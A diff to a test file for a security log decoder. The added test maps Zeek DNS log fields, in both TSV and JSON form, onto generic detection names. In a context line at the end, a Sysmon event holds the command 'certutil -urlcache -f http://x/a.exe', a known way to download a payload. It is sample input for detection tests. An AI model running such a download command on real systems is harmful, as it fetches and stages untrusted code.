@@ -292,6 +292,20 @@ test("Zeek dns.log is also the generic dns category", () => {
   assert.deepEqual([ev.logsource?.product, ev.logsource?.categories, ev.logsource?.services], ["zeek", ["dns"], ["dns"]]);
 });
 
+test("Zeek dns.log answers and query type are also the generic dns category's answer and record_type, TSV and JSON", () => {
+  const state = newDecoderState("dns.log");
+  for (const h of ["#separator \\x09", "#set_separator\t,", "#path\tdns", "#fields\tts\tquery\tqtype_name\tanswers", "#types\ttime\tstring\tstring\tvector[string]"]) absorbHeader(state, h);
+  const tsv = decode("1700000000.0\tpool.example.org\tTXT\t10.0.0.1,10.0.0.2", state);
+  assert.deepEqual([tsv.fields.answer, tsv.fields.record_type], [["10.0.0.1", "10.0.0.2"], "TXT"]);
+  const json = decode(JSON.stringify({ _path: "dns", ts: 1700000000, uid: "C1", "id.orig_h": "10.1.1.1", query: "a.example.org", qtype_name: "A", answers: ["10.9.9.9"] }));
+  assert.deepEqual([json.fields.answer, json.fields.record_type], [["10.9.9.9"], "A"]);
+  // A field the log names generically itself is not overwritten, and other Zeek logs get no generic dns names.
+  const own = decode(JSON.stringify({ _path: "dns", uid: "C2", "id.orig_h": "10.1.1.1", answers: ["x"], answer: "kept" }));
+  assert.equal(own.fields.answer, "kept");
+  const http = decode(JSON.stringify({ _path: "http", uid: "C3", "id.orig_h": "10.1.1.1", answers: ["x"] }));
+  assert.equal(http.fields.answer, undefined);
+});
+
 test("Get-WinEvent records as ConvertTo-Json writes them: the log, provider and id, and a Sysmon message's fields", () => {
   const ev = decode(JSON.stringify({
     Message: "Process Create:\r\nRuleName: -\r\nProcessId: 4242\r\nImage: C:\\Windows\\System32\\certutil.exe\r\nCommandLine: certutil -urlcache -f http://x/a.exe",
